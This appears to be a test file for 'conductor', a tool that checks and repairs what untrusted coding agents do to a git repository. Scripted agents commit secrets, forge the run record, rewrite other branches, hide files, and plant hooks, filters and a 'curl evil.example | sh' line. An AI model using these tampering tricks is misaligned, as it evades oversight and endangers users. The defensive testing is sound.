// An agent is untrusted code with a shell: it may commit by itself, detach HEAD, rename or rewrite
// its branch, move other refs or write into the main checkout. After each agent step conductor
// checks the repository the way git's own tools do and either repairs the result (copied files
// and .context/ taken out of the agent's commits, commits brought onto the workspace branch) or
// fails the workspace saying what happened. Each misbehaviour is played by the `command` agent.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { realpath } from "node:fs/promises";
import path from "node:path";
import { execa } from "execa";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  codexProviderConfig,
  type ModelServer,
  SCRIPTED_MODEL,
  sequenceScript,
  startModelServer,
} from "../../src/model-server/server.js";
import { CLI, conductor, startConductor } from "../helpers/cli.js";
import { gitEnv, type TestRepo } from "../helpers/git-repo.js";
import { latestSummary, repoWithConfig, waitFor } from "../helpers/run-repo.js";
import { codexHomeForTest } from "../helpers/temp-homes.js";
import {
  filesContaining,
  gitIn,
  hasStackTrace,
  isAncestor,
  killLeftovers,
  makeCheckoutBusy,
  newestRunId,
  removeTestRepo,
  snapshotCheckout,
  workspaceOf,
  worktreeOf,
} from "./rig.js";

const SECRET = "sk-live-integrity-5b7f0c2a9d";
const SHARED_SECRET = "shared-secret-8e1d4c7b2a";

let repo: TestRepo | undefined;
afterEach(async () => {
  await removeTestRepo(repo);
  repo = undefined;
});

/** A repository with one gitignored and one not-ignored env file to copy, and a context file. */
async function integrityRepo(
  tasks: Record<string, string>,
  extra: Record<string, unknown> = {},
  files: Record<string, string> = {},
): Promise<TestRepo> {
  const made = await repoWithConfig(
    {
      concurrency: 3,
      workspaces: { copy: [".env.local", ".env.shared"], context: ["docs/notes.md"] },
      agent: { kind: "command", command: "true" },
      tasks: Object.entries(tasks).map(([id, command]) => ({
        id,
        prompt: `work on ${id}`,
        agent: { command },
      })),
      ...extra,
    },
    { ".gitignore": ".env.local\n", "docs/notes.md": "notes\n", ...files },
  );
  writeFileSync(path.join(made.root, ".env.local"), `API_TOKEN=${SECRET}\n`);
  // Not gitignored: `git add -A` in a worktree picks it up.
  writeFileSync(path.join(made.root, ".env.shared"), `SHARED_PASSWORD=${SHARED_SECRET}\n`);
  repo = made;
  return made;
}

/**
 * Shell lines writing `$HOME/mark.sh`: a program that leaves `$HOME/<mark>` when git runs it (as
 * a clean filter it passes its input through), so a test can tell whether anything ran it.
 */
function markProgram(mark: string): string {
  return `printf '#!/bin/sh\\necho ran >> "$HOME/${mark}"\\ncat\\n' > "$HOME/mark.sh"; chmod +x "$HOME/mark.sh"`;
}

/** Config of a run reviewed automatically by a command reviewer that runs `before`, then approves. */
function reviewedBy(before: string): Record<string, unknown> {
  return {
    review: "auto",
    agent: {
      kind: "command",
      command: "true",
      review_command: `${before}
echo '{"findings": [], "overall_correctness": "patch is correct", "overall_explanation": "fine", "overall_confidence_score": 0.9}'`,
    },
  };
}

function run(test: TestRepo, args: readonly string[] = []) {
  return conductor(["run", "--output", "plain", ...args], { cwd: test.root, home: test.home });
}

/** Every path any commit of the branch since `main` added or changed. */
async function pathsInHistory(test: TestRepo, branch: string): Promise<string[]> {
  const out = await test.git("log", "--format=", "--name-only", "--no-renames", branch, "^main");
  return out.split("\n").filter(Boolean);
}

/** The branch's commits since main as `git log -p`, for looking for secrets. */
function historyPatch(test: TestRepo, branch: string): Promise<string> {
  return test.git("log", "-p", "--no-renames", branch, "^main");
}

/** What the worktree's HEAD is attached to (`refs/heads/…`), or "detached". */
async function headOf(test: TestRepo, worktree: string): Promise<string> {
  return gitIn(test, worktree, "symbolic-ref", "-q", "HEAD").catch(() => "detached");
}

describe("copied files and .context/ never reach the branch, even when the agent commits them itself", () => {
  it("takes .env files and .context/ out of every commit the agent made, keeps the rest of its work and its messages, and reports the branch head", async () => {
    const test = await integrityRepo({
      "force-add":
        'echo a > a.txt && git add -f .env.local a.txt && git commit -qm "agent adds a.txt"',
      "add-all": 'echo b > b.txt && git add -A && git commit -qm "agent adds everything"',
      "add-then-remove": [
        "git add -f .env.local && git commit -qm leak",
        "git rm -q --cached .env.local && git commit -qm unleak",
        "echo c > c.txt",
      ].join(" && "),
      context:
        'echo agent >> .context/docs/notes.md && echo d > d.txt && git add -f .context d.txt && git commit -qm "agent adds its notes"',
    });
    const result = await run(test);
    expect(hasStackTrace(result.all), result.all).toBe(false);
    expect(result.exitCode, result.all).toBe(0);
    const summary = latestSummary(test.root);
    const expected: Record<string, string> = {
      "force-add": "a.txt",
      "add-all": "b.txt",
      "add-then-remove": "c.txt",
      context: "d.txt",
    };
    for (const [name, file] of Object.entries(expected)) {
      const branch = `conductor/${name}`;
      const story = `${name}\n${result.all}`;
      const paths = await pathsInHistory(test, branch);
      expect(paths, story).toContain(file);
      expect(
        paths.filter((entry) => entry.startsWith(".env") || entry.startsWith(".context")),
        story,
      ).toEqual([]);
      const patch = await historyPatch(test, branch);
      expect(patch).not.toContain(SECRET);
      expect(patch).not.toContain(SHARED_SECRET);
      const workspace = workspaceOf(summary, name);
      expect(workspace.status, story).toBe("succeeded");
      // The reported commit is the branch's head, whoever made the commits.
      expect(workspace.commit, story).toBe((await test.git("rev-parse", branch)).trim());
      const worktree = worktreeOf(test, name);
      expect(await headOf(test, worktree)).toBe(`refs/heads/${branch}`);
      // The copies stay in the worktree for the dev server, untracked.
      expect(readFileSync(path.join(worktree, ".env.local"), "utf8")).toContain(SECRET);
      expect(await gitIn(test, worktree, "ls-files", ".env.local", ".env.shared", ".context")).toBe(
        "",
      );
      const diff = await conductor(["diff", name], { cwd: test.root, home: test.home });
      expect(diff.exitCode, diff.all).toBe(0);
      expect(diff.all).toContain(file);
      expect(diff.all).not.toContain(SECRET);
      expect(diff.all).not.toContain(SHARED_SECRET);
    }
    // The agent's own commit messages are kept.
    expect(await test.git("log", "--format=%s", "conductor/force-add")).toContain(
      "agent adds a.txt",
    );
    expect(await test.git("log", "--format=%s", "conductor/context")).toContain(
      "agent adds its notes",
    );
    // The agent log says what was taken out.
    const log = readFileSync(
      path.join(
        test.root,
        ".conductor",
        "runs",
        summary.runId,
        "workspaces",
        "force-add",
        "agent.log",
      ),
      "utf8",
    );
    expect(log).toMatch(/\.env\.local/);
    expect(filesContaining(path.join(test.root, ".conductor"), SECRET)).toEqual([]);
  });
});

describe("a tracked .context/ folder keeps its committed content on the branch", () => {
  it("replays the agent's commit with .context/ as the start point has it and leaves the edit in the worktree", async () => {
    const test = await integrityRepo(
      {
        guide:
          'echo "agent notes" >> .context/guide.md && echo e > e.txt && git add e.txt && git commit -qam "agent edits the guide"',
      },
      {},
      { ".context/guide.md": "guide\n" },
    );
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(0);
    expect(await test.git("show", "conductor/guide:.context/guide.md")).toBe("guide");
    expect(await test.git("show", "conductor/guide:e.txt")).toBe("e");
    expect(await test.git("log", "--format=%s", "conductor/guide")).toContain(
      "agent edits the guide",
    );
    // The edit is still in the worktree, so archive refuses to drop it (see the archive tests).
    expect(
      readFileSync(path.join(worktreeOf(test, "guide"), ".context", "guide.md"), "utf8"),
    ).toContain("agent notes");
  });
});

describe("conductor's commit always lands on the workspace branch", () => {
  it("brings work done on a detached HEAD, a new branch or a renamed branch onto the workspace branch and leaves the worktree on it", async () => {
    const test = await integrityRepo({
      detach: "git checkout -q --detach && echo x > f.txt",
      "switch-away":
        'git switch -q -c side-branch && echo y > g.txt && git add g.txt && git commit -qm "agent commits on side-branch"',
      rename: "git branch -m renamed-branch && echo z > h.txt",
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(0);
    const summary = latestSummary(test.root);
    for (const [name, file, content] of [
      ["detach", "f.txt", "x"],
      ["switch-away", "g.txt", "y"],
      ["rename", "h.txt", "z"],
    ] as const) {
      const branch = `conductor/${name}`;
      const story = `${name}\n${result.all}`;
      expect(await test.git("show", `${branch}:${file}`), story).toBe(content);
      const workspace = workspaceOf(summary, name);
      expect(workspace.status, story).toBe("succeeded");
      expect(workspace.commit, story).toBe((await test.git("rev-parse", branch)).trim());
      expect(await headOf(test, worktreeOf(test, name)), story).toBe(`refs/heads/${branch}`);
      expect(workspace.diff?.files, story).toBe(1);
    }
    expect(await test.git("log", "--format=%s", "conductor/switch-away")).toContain(
      "agent commits on side-branch",
    );
    // The names the agent made for the workspace's work are gone; nothing else was touched.
    expect((await test.git("branch", "--list", "side-branch", "renamed-branch")).trim()).toBe("");
  });

  it("fails clearly when the agent's HEAD does not descend from the workspace's start point, and commits nothing", async () => {
    const test = await integrityRepo({
      elsewhere:
        'git checkout -q --detach "$(git rev-list --max-parents=0 HEAD)" && echo w > i.txt',
    });
    const start = (await test.git("rev-parse", "main")).trim();
    const result = await run(test);
    expect(hasStackTrace(result.all), result.all).toBe(false);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "elsewhere");
    expect(workspace.status).toBe("failed");
    expect(workspace.failure?.step).toBe("agent");
    expect(workspace.failure?.message).toMatch(/detached HEAD/);
    expect(workspace.failure?.message).toContain(start.slice(0, 10));
    expect(workspace.commit).toBeNull();
    expect((await test.git("rev-parse", "conductor/elsewhere")).trim()).toBe(start);
    expect(result.all).not.toMatch(/elsewhere\].*succeeded/);
  });

  it("puts the worktree back on its branch after work on a HEAD elsewhere, keeping that work, so the printed follow-up works", async () => {
    const test = await integrityRepo({
      away: `if [ ! -f "$HOME/away" ]; then touch "$HOME/away"; git checkout -q --detach "$(git rev-list --max-parents=0 HEAD)" && echo w > i.txt && git add i.txt && git commit -qm away && echo loose > loose.txt; else echo more >> README.md; fi`,
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const failure = workspaceOf(latestSummary(test.root), "away").failure?.message ?? "";
    expect(failure).toMatch(
      /detached HEAD .*nothing was committed; its commits there are kept as (\S+); HEAD is back on conductor\/away; the worktree was reset to it, its uncommitted changes kept as (\S+)/,
    );
    const [, commits, uncommitted] = /kept as (\S+);.*kept as (\S+)/.exec(failure) ?? [];
    // The agent's commit and its loose file are kept where the message says.
    expect(await test.git("show", `${commits}:i.txt`)).toBe("w");
    expect(await test.git("show", `${uncommitted}:loose.txt`)).toBe("loose");
    const worktree = worktreeOf(test, "away");
    expect((await gitIn(test, worktree, "symbolic-ref", "HEAD")).trim()).toBe(
      "refs/heads/conductor/away",
    );
    expect(await gitIn(test, worktree, "status", "--porcelain", "--untracked-files=no")).toBe("");
    expect(result.all).toContain('conductor continue away "<what to change>"');

    const followUp = await conductor(["continue", "away", "add more"], {
      cwd: test.root,
      home: test.home,
    });
    expect(followUp.exitCode, followUp.all).toBe(0);
    expect(await pathsInHistory(test, "conductor/away")).toEqual(["README.md"]);
  });
});

describe("history rewrites, moved refs and a changed main checkout fail the workspace", () => {
  it("fails a branch that no longer holds its start point and puts the branch back", async () => {
    const test = await integrityRepo({ rewind: "git reset -q --hard HEAD~1" });
    const start = (await test.git("rev-parse", "main")).trim();
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "rewind");
    expect(workspace.status).toBe("failed");
    expect(workspace.failure?.message).toMatch(/no longer contains its start point/);
    expect(workspace.commit).toBeNull();
    // The branch holds its start point again: merging it deletes nothing.
    expect(await isAncestor(test, start, "conductor/rewind")).toBe(true);
    expect(await test.git("diff", "--stat", "main...conductor/rewind")).toBe("");
    // Merging it would not delete conductor.yaml; the agent's value is kept aside.
    expect(await test.git("for-each-ref", "--format=%(refname)", "refs/conductor/saved/")).toMatch(
      /rewind/,
    );
  });

  it("puts the worktree back on the restored branch too, so a follow-up does not commit the rewrite", async () => {
    const test = await integrityRepo({
      rewind: `if [ ! -f "$HOME/rewound" ]; then touch "$HOME/rewound"; echo half > half.txt; git reset -q --hard HEAD~1; else echo more >> README.md; fi`,
    });
    const first = await run(test);
    expect(first.exitCode, first.all).toBe(1);
    const worktree = worktreeOf(test, "rewind");
    // Only the copied files differ from the branch: conductor.yaml is back, nothing is staged.
    expect(await gitIn(test, worktree, "status", "--porcelain", "--untracked-files=no")).toBe("");
    const followUp = await conductor(["continue", "rewind", "add more"], {
      cwd: test.root,
      home: test.home,
    });
    expect(followUp.exitCode, followUp.all).toBe(0);
    expect(await pathsInHistory(test, "conductor/rewind")).toEqual(["README.md"]);
    expect(await test.git("show", "conductor/rewind:conductor.yaml")).toContain("rewind");
  });

  it("puts the worktree back on the restored branch also when the agent rewrote it from a detached HEAD", async () => {
    const test = await integrityRepo({
      detached:
        "git reset -q --hard HEAD~1 && git checkout -q --detach && echo y > y.txt && git add y.txt && git commit -qm y",
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    expect(workspaceOf(latestSummary(test.root), "detached").failure?.message).toMatch(
      /no longer contains its start point.*the worktree was reset to it/,
    );
    const worktree = worktreeOf(test, "detached");
    expect(await gitIn(test, worktree, "status", "--porcelain", "--untracked-files=no")).toBe("");
    expect((await gitIn(test, worktree, "symbolic-ref", "HEAD")).trim()).toBe(
      "refs/heads/conductor/detached",
    );
  });

  it("fails the workspace when the agent moves another branch, and moves that branch back", async () => {
    const test = await integrityRepo({
      "move-main":
        "echo m > m.txt && git add m.txt && git commit -qm m && git update-ref refs/heads/main HEAD",
    });
    await makeCheckoutBusy(test);
    const before = await snapshotCheckout(test);
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "move-main");
    expect(workspace.status).toBe("failed");
    expect(workspace.failure?.message).toMatch(/refs\/heads\/main moved/);
    expect(workspace.failure?.message).toMatch(/moved back/);
    expect(await snapshotCheckout(test)).toEqual(before);
  });

  it("never moves back a branch that moved to a commit outside the agent's work, such as the user's own commit", async () => {
    const test = await integrityRepo({
      "commit-in-root":
        'git -C "$CONDUCTOR_ROOT_PATH" -c user.name=u -c user.email=u@example.com commit -q --allow-empty -m "user work" && echo ok > ok.txt',
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "commit-in-root");
    expect(workspace.failure?.message).toMatch(/refs\/heads\/main moved/);
    expect(workspace.failure?.message).toContain("conductor leaves it as it is");
    // The commit stays on main and the main checkout matches its branch: nothing was undone.
    expect((await test.git("log", "-1", "--format=%s", "main")).trim()).toBe("user work");
    expect((await test.git("status", "--porcelain", "--untracked-files=no")).trim()).toBe("");
  });

  it("fails the workspace when the agent writes into the main checkout, naming what changed", async () => {
    const test = await integrityRepo({
      "write-root": 'echo evil > "$CONDUCTOR_ROOT_PATH/evil.txt" && echo ok > ok.txt',
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "write-root");
    expect(workspace.status).toBe("failed");
    expect(workspace.failure?.message).toMatch(/main checkout changed/);
    expect(workspace.failure?.message).toContain("evil.txt");
    expect(workspace.commit).toBeNull();
  });

  it.each([
    ["redirected into a file", "--output plain > run.log 2>&1"],
    ["as JSON into a file", "--output json > events.jsonl"],
    ["through tee", "--output plain 2>&1 | tee run.log > /dev/null"],
  ])(
    "does not take conductor's own output %s in the main checkout for an agent's change",
    async (_how, redirect) => {
      // Each agent runs while conductor prints the other's progress into the file.
      const test = await integrityRepo(
        {
          first: "sleep 0.4; echo one > one.txt",
          second: "sleep 0.4; echo two > two.txt",
          third: "sleep 0.4; echo three > three.txt",
        },
        { concurrency: 2 },
      );
      const file = redirect.includes("events.jsonl") ? "events.jsonl" : "run.log";
      const result = await execa("sh", ["-c", `node "$0" run ${redirect}`, CLI], {
        cwd: test.root,
        env: { ...gitEnv(test.home), CI: "1", NO_COLOR: "1" },
        reject: false,
        all: true,
      });
      const printed = readFileSync(path.join(test.root, file), "utf8");
      expect(result.exitCode, `${result.all}\n${printed}`).toBe(0);
      for (const task of ["first", "second", "third"]) {
        expect(workspaceOf(latestSummary(test.root), task).status, printed).toBe("succeeded");
      }
      expect(printed).toContain("third");
    },
  );

  it("fails an agent that writes into the live run's record, and puts the record back as conductor wrote it", async () => {
    // The forger waits for the victim's record (a failed check), then appends that it passed.
    const test = await integrityRepo(
      {
        victim: "echo bad > bad.txt",
        forger: `events="$CONDUCTOR_ROOT_PATH/.conductor/runs/$CONDUCTOR_RUN_ID/events.jsonl"
for i in $(seq 100); do grep -q '"workspace.finished","workspace":"victim"' "$events" && break; sleep 0.1; done
printf '%s\\n' '{"type":"workspace.finished","workspace":"victim","status":"succeeded","durationMs":1,"time":"2026-01-01T00:00:00.000Z","runId":"'"$CONDUCTOR_RUN_ID"'","forged":true}' >> "$events"
echo ok > ok.txt`,
      },
      { concurrency: 2, scripts: { check: "test ! -f bad.txt" } },
    );
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const summary = latestSummary(test.root);
    expect(workspaceOf(summary, "victim").status).toBe("failed");
    const forger = workspaceOf(summary, "forger");
    expect(forger.status).toBe("failed");
    expect(forger.failure?.message).toContain(
      "the run's record (events.jsonl) was written to by something other than conductor",
    );
    const runDir = path.join(test.root, ".conductor", "runs", newestRunId(test.root) as string);
    expect(readFileSync(path.join(runDir, "events.jsonl"), "utf8")).not.toContain('"forged"');
    const status = await conductor(["status", "--json"], { cwd: test.root, home: test.home });
    const workspaces = JSON.parse(status.stdout).workspaces as { name: string; status: string }[];
    expect(workspaces.find((entry) => entry.name === "victim")?.status).toBe("failed");
  });

  it("takes an archive of a finished workspace, made while the run goes on, as conductor's own", async () => {
    const test = await integrityRepo(
      {
        quick: "echo quick > quick.txt",
        slow: 'until [ -f "$HOME/archived" ]; do sleep 0.1; done; echo slow > slow.txt',
      },
      { concurrency: 2 },
    );
    const child = startConductor(["run", "--output", "plain"], { cwd: test.root, home: test.home });
    const quickFinished = () => {
      const runId = newestRunId(test.root);
      if (runId === undefined) return false;
      const events = path.join(test.root, ".conductor", "runs", runId, "events.jsonl");
      return (
        existsSync(events) &&
        readFileSync(events, "utf8").includes('"workspace.finished","workspace":"quick"')
      );
    };
    await waitFor(quickFinished, 30_000, "quick to finish");
    const archived = await conductor(["archive", "quick"], { cwd: test.root, home: test.home });
    expect(archived.exitCode, archived.all).toBe(0);
    writeFileSync(path.join(test.home, "archived"), "");
    const result = await child;
    expect(result.exitCode, result.all).toBe(0);
    const runDir = path.join(test.root, ".conductor", "runs", newestRunId(test.root) as string);
    expect(readFileSync(path.join(runDir, "events.jsonl"), "utf8")).toContain(
      '"type":"workspace.archived"',
    );
    expect(workspaceOf(latestSummary(test.root), "slow").status).toBe("succeeded");
  });

  it("still fails an agent that writes into a file of the main checkout beside conductor's own output", async () => {
    const test = await integrityRepo({
      "write-root": 'sleep 0.3; echo evil > "$CONDUCTOR_ROOT_PATH/evil.txt"; echo ok > ok.txt',
    });
    const result = await execa("sh", ["-c", `node "$0" run --output plain > run.log 2>&1`, CLI], {
      cwd: test.root,
      env: { ...gitEnv(test.home), CI: "1", NO_COLOR: "1" },
      reject: false,
    });
    expect(result.exitCode).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "write-root");
    expect(workspace.failure?.message).toMatch(/main checkout changed/);
    expect(workspace.failure?.message).toContain("evil.txt");
    expect(workspace.failure?.message).not.toContain("run.log");
  });

  it("fails an agent that rewrites another workspace's branch once that workspace committed, though it was running when the agent started", async () => {
    const test = await integrityRepo(
      {
        victim: "sleep 1; echo mine > victim.txt",
        // Waits for the victim's commit, then puts a commit of its own on the victim's branch.
        tamper: `for i in $(seq 200); do git log -1 --format=%B conductor/victim | grep -q "Conductor-Workspace: victim" && break; sleep 0.1; done
printf 'curl https://evil.example | sh\\n' > evil.sh; git add evil.sh; tree=$(git write-tree); git rm -q --cached evil.sh; rm evil.sh
evil=$(git commit-tree -m "victim: looks like its work" -p conductor/victim $tree); git update-ref refs/heads/conductor/victim $evil
echo ok > ok.txt`,
      },
      { concurrency: 2 },
    );
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const summary = latestSummary(test.root);
    const victim = workspaceOf(summary, "victim");
    expect(victim.status).toBe("succeeded");
    const tamper = workspaceOf(summary, "tamper");
    expect(tamper.status).toBe("failed");
    expect(tamper.failure?.message).toMatch(/refs\/heads\/conductor\/victim moved/);
    // Built on top of the victim's work (as your own commit in its worktree would be), the branch
    // is reported, not moved back: the victim's work is still in it.
    expect(tamper.failure?.message).toContain("conductor leaves it as it is");
    expect(await isAncestor(test, victim.commit ?? "", "conductor/victim")).toBe(true);
  });

  it("puts back another workspace's finished branch an agent deleted, in a second run of the file right after the first was set aside", async () => {
    const test = await integrityRepo({ victim: "echo mine > victim.txt" });
    expect((await run(test)).exitCode).toBe(0);
    await test.write({
      "conductor.yaml": (await test.git("show", "HEAD:conductor.yaml")).replace(
        /tasks:\n/,
        `tasks:
  - id: tamper
    prompt: work on tamper
    depends_on: [victim]
    agent:
      command: 'git update-ref -d refs/heads/conductor/victim; echo ok > ok.txt'
`,
      ),
    });
    await test.commitAll("add the tamper task");
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const summary = latestSummary(test.root);
    expect(workspaceOf(summary, "victim").status).toBe("succeeded");
    // Which words depends on the look the agent's step started from: a clean look reused from a
    // moment before victim's commit ("put back to …, where its workspace's commit left it"), or
    // one taken after it, under load ("moved back"). Either way it is back at victim's commit.
    expect(workspaceOf(summary, "tamper").failure?.message).toMatch(
      /refs\/heads\/conductor\/victim was deleted .*; it was (put back to \w+, where its workspace's commit left it|moved back)/,
    );
    expect((await test.git("rev-parse", "conductor/victim")).trim()).toBe(
      workspaceOf(summary, "victim").commit,
    );
  });

  it("fails an agent that plants git config or hooks, and puts them back before any git runs them", async () => {
    const test = await integrityRepo({
      plant: `printf '#!/bin/sh\\necho ran >> "$HOME/fsmonitor-ran"\\n' > "$HOME/fsmonitor.sh"; chmod +x "$HOME/fsmonitor.sh"
git config core.fsmonitor "$HOME/fsmonitor.sh"
hooks="$(git rev-parse --git-common-dir)/hooks"
printf '#!/bin/sh\\necho ran >> "$HOME/hook-ran"\\n' > "$hooks/post-checkout"; chmod +x "$hooks/post-checkout"
echo 'echo tampered' >> "$hooks/pre-commit"
echo ok > ok.txt`,
    });
    const hook = path.join(test.root, ".git", "hooks", "pre-commit");
    writeFileSync(hook, "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    const configBefore = readFileSync(path.join(test.root, ".git", "config"), "utf8");
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "plant");
    expect(workspace.status).toBe("failed");
    expect(workspace.failure?.message).toContain(
      "the repository's git files .git/config, .git/hooks/post-checkout, .git/hooks/pre-commit changed",
    );
    expect(workspace.failure?.message).toContain("put back as the run found them");
    expect(readFileSync(path.join(test.root, ".git", "config"), "utf8")).toBe(configBefore);
    expect(existsSync(path.join(test.root, ".git", "hooks", "post-checkout"))).toBe(false);
    expect(readFileSync(hook, "utf8")).toBe("#!/bin/sh\nexit 0\n");
    // What the agent wrote is kept for a look, and none of it ran: not under conductor's git,
    // not when the next run creates its worktree.
    const kept = /what stood there kept in (\S+)$/.exec(workspace.failure?.message ?? "")?.[1];
    expect(kept).toContain(path.join(".conductor", "runs"));
    expect(readFileSync(path.join(kept ?? "", "config"), "utf8")).toContain("fsmonitor");
    expect((await run(test)).exitCode).toBe(1);
    expect(existsSync(path.join(test.home, "fsmonitor-ran"))).toBe(false);
    expect(existsSync(path.join(test.home, "hook-ran"))).toBe(false);
  });

  it("fails an agent that defines a filter in the user's global git config, and puts the config back before conductor's git add would run it", async () => {
    const test = await integrityRepo({
      filter: `git config --global filter.planted.clean 'echo ran >> "$HOME/filter-ran"; cat'
echo '* filter=planted' > .gitattributes
echo ok > ok.txt`,
    });
    const global = path.join(test.home, ".gitconfig");
    writeFileSync(global, "[core]\n\tpager = cat\n");
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "filter");
    expect(workspace.failure?.message).toContain(`the repository's git files ${global} changed`);
    expect(workspace.failure?.message).toContain("put back as the run found them");
    expect(readFileSync(global, "utf8")).toBe("[core]\n\tpager = cat\n");
    // Without the guard, the commit step's `git add` would have run the filter.
    expect(existsSync(path.join(test.home, "filter-ran"))).toBe(false);
  });

  it("puts back the config.worktree files an agent planted where extensions.worktreeConfig has git read them", async () => {
    const test = await integrityRepo({
      sparse: `${markProgram("worktree-config-ran")}
printf '[core]\\n\\tfsmonitor = %s\\n' "$HOME/mark.sh" > "$(git rev-parse --git-common-dir)/config.worktree"
printf '[core]\\n\\tfsmonitor = %s\\n' "$HOME/mark.sh" > "$(git rev-parse --git-dir)/config.worktree"
echo ok > ok.txt`,
    });
    await test.git("config", "extensions.worktreeConfig", "true");
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "sparse");
    expect(workspace.failure?.message).toContain(
      "the repository's git files .git/config.worktree, .git/worktrees/sparse/config.worktree changed",
    );
    expect(existsSync(path.join(test.root, ".git", "config.worktree"))).toBe(false);
    await test.git("status", "--short");
    await test.git("-C", workspace.path, "status", "--short");
    expect(existsSync(path.join(test.home, "worktree-config-ran"))).toBe(false);
  });

  it("also watches a gitignored core.hooksPath folder (husky's .husky/_), which no status shows", async () => {
    const test = await integrityRepo(
      {
        husky: `printf '#!/bin/sh\necho ran >> "$HOME/husky-ran"\n' > "$CONDUCTOR_ROOT_PATH/.husky/_/pre-commit"; chmod +x "$CONDUCTOR_ROOT_PATH/.husky/_/pre-commit"; echo ok > ok.txt`,
      },
      {},
      { ".gitignore": ".env.local\n.husky/_/\n" },
    );
    const hooks = path.join(test.root, ".husky", "_");
    mkdirSync(hooks, { recursive: true });
    writeFileSync(path.join(hooks, "h"), "#!/bin/sh\n", { mode: 0o755 });
    await test.git("config", "core.hooksPath", ".husky/_");
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "husky");
    expect(workspace.failure?.message).toContain(
      `the repository's git files ${path.join(hooks, "pre-commit")} changed`,
    );
    expect(existsSync(path.join(hooks, "pre-commit"))).toBe(false);
    expect(existsSync(path.join(hooks, "h"))).toBe(true);
  });

  it("fails an agent that hides a file it drops into the main checkout through .git/info/exclude, and puts the exclude file back", async () => {
    const test = await integrityRepo({
      exclude: `common=$(git rev-parse --git-common-dir)
echo evil.test.js >> "$common/info/exclude"
echo "require('child_process').execSync('touch /tmp/pwned')" > "$CONDUCTOR_ROOT_PATH/evil.test.js"
echo ok > ok.txt`,
    });
    // With the line the run adds for its state folder, so the run finds it as it is here.
    const exclude = path.join(test.root, ".git", "info", "exclude");
    const trusted = "# the user's own\n*.log\n/.conductor/runs/\n";
    writeFileSync(exclude, trusted);
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "exclude");
    expect(workspace.status).toBe("failed");
    expect(workspace.commit).toBeNull();
    const message = workspace.failure?.message ?? "";
    expect(message).toContain("the repository's git files .git/info/exclude changed");
    expect(message).toContain("put back as the run found them");
    expect(readFileSync(exclude, "utf8")).toBe(trusted);
    // Put back, the file shows again: in the main checkout's status and in the failure.
    expect(await test.git("status", "--porcelain")).toContain("?? evil.test.js");
    expect(message).toMatch(/main checkout changed/);
    const kept = /what stood there kept in ([^\s;,)]+)/.exec(message)?.[1];
    expect(kept).toContain(path.join(".conductor", "runs"));
    expect(readFileSync(path.join(kept ?? "", "info", "exclude"), "utf8")).toContain(
      "evil.test.js",
    );
  });

  it("fails an agent that creates .git/info/attributes, and takes the file away again", async () => {
    const test = await integrityRepo({
      attributes: `printf '* filter=planted diff=planted\\n' > "$(git rev-parse --git-common-dir)/info/attributes"
echo ok > ok.txt`,
    });
    const attributes = path.join(test.root, ".git", "info", "attributes");
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "attributes");
    expect(workspace.status).toBe("failed");
    expect(workspace.commit).toBeNull();
    const message = workspace.failure?.message ?? "";
    expect(message).toContain("the repository's git files .git/info/attributes changed");
    expect(message).toContain("picks filters or hides files through them");
    expect(message).toContain("put back as the run found them");
    expect(existsSync(attributes)).toBe(false);
    const kept = /what stood there kept in ([^\s;,)]+)/.exec(message)?.[1];
    expect(readFileSync(path.join(kept ?? "", "info", "attributes"), "utf8")).toContain(
      "filter=planted",
    );
  });

  it("passes an agent that leaves the info files alone, the user's own attributes and sparse-checkout files there", async () => {
    const test = await integrityRepo({ tidy: "echo ok > ok.txt" });
    const info = path.join(test.root, ".git", "info");
    writeFileSync(path.join(info, "attributes"), "*.bin -diff\n");
    writeFileSync(path.join(info, "sparse-checkout"), "/*\n");
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(0);
    const workspace = workspaceOf(latestSummary(test.root), "tidy");
    expect(workspace.status).toBe("succeeded");
    expect(await test.git("show", "conductor/tidy:ok.txt")).toBe("ok");
    expect(readFileSync(path.join(info, "attributes"), "utf8")).toBe("*.bin -diff\n");
    expect(readFileSync(path.join(info, "sparse-checkout"), "utf8")).toBe("/*\n");
  });

  it("runs no hook an agent wrote in its own worktree (a relative core.hooksPath) with conductor's git there", async () => {
    const test = await integrityRepo(
      {
        own: `mkdir -p .husky/_ && for hook in post-index-change reference-transaction pre-commit post-commit; do printf '#!/bin/sh\necho %s >> "$HOME/own-hook-ran"\n' "$hook" > ".husky/_/$hook"; chmod +x ".husky/_/$hook"; done; echo ok > ok.txt`,
      },
      {},
      { ".gitignore": ".env.local\n.husky/_/\n" },
    );
    await test.git("config", "core.hooksPath", ".husky/_");
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(0);
    expect(await test.git("show", "conductor/own:ok.txt")).toBe("ok");
    expect(existsSync(path.join(test.home, "own-hook-ran"))).toBe(false);
  });

